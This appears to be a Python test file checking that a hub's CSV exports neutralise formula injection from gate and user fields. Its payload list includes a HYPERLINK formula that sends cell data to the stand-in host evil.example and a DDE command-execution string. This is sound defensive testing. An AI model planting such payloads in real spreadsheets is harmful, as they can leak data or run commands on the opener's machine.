"""CSV formula injection: what a gate or a user name puts in a cell reaches the supervisor's spreadsheet
as text, never as a formula, in every CSV the hub writes (server/csv_export.py)."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import urllib.request

from ulid import ULID

from server.csv_export import FORMULA_STARTS, csv_text, safe_cell
from server.reports import DailyReport, report_csv

# OWASP's examples and the characters it lists (= + - @ tab CR), and a leading space before one.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "  =1+1"]


def cells(text: str) -> list[list[str]]:
    """A CSV text's cells (after its BOM)."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate."""
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell


def test_a_cell_that_would_be_a_formula_is_written_as_text() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert [safe_cell(v) for v in (-1, 36.5, 0, None, "school1", "张*明", "GATE-TEMP-01")] == [
        -1, 36.5, 0, None, "school1", "张*明", "GATE-TEMP-01"]  # numbers and plain text as they were
    assert_no_formula(cells(csv_text([PAYLOADS])))


def test_the_daily_report_csv_has_no_formula() -> None:
    report = DailyReport(venue="=1+1", day="2026-01-01", denials_by_rule={"@SUM(1)": 2},
                         fevers=[{"at": "-12:00", "celsius": 38.2}])
    rows = cells(report_csv(report, {"filed_by": '=HYPERLINK("http://evil.example")', "filed_at": "+x", "late": 0}))
    assert_no_formula(rows)
    assert ["场所 venue", "'=1+1"] in rows and ["填报人 filed by", "'=HYPERLINK(\"http://evil.example\")"] in rows


def test_the_access_log_csv_has_no_formula_whatever_a_gate_sends(hub_factory) -> None:
    hub = hub_factory(venues={"acme": {"cap": 10}}, gates={"acme": ["g0"]}, enroll=[("acme", "g0")], serve=True)
    hub.store.create_user("admin", "a-long-pass-phrase", "admin")
    secret = hub.devices["g0"][1]
    events = [{"id": str(ULID()), "kind": "manual", "venue": "acme", "gate": "g0",
               "at": dt.datetime.now(dt.timezone.utc).isoformat(), "direction": "in", "decision": "deny",
               "operator": payload[:64], "name": payload[:32], "person_class": payload[:16],
               "bundle_version": payload, "reasons": [{"rule": payload, "outcome": "FAIL"}]} for payload in PAYLOADS]
    sync = urllib.request.Request(f"{hub.url}/api/v1/device/sync", data=json.dumps({"events": events}).encode(),
                                  headers={"Authorization": f"Bearer {secret}", "Content-Type": "application/json"})
    with urllib.request.urlopen(sync, timeout=10) as answer:
        assert json.load(answer)["new"] == len(PAYLOADS)
    basic = base64.b64encode(b"admin:a-long-pass-phrase").decode()
    export = urllib.request.Request(f"{hub.url}/api/v1/events?format=csv", headers={"Authorization": f"Basic {basic}"})
    with urllib.request.urlopen(export, timeout=10) as answer:
        rows = cells(answer.read().decode("utf-8"))
    assert len(rows) == 1 + len(PAYLOADS)
    assert_no_formula(rows)
    operators = {row[14] for row in rows[1:]}
    assert operators == {"'" + p for p in PAYLOADS}
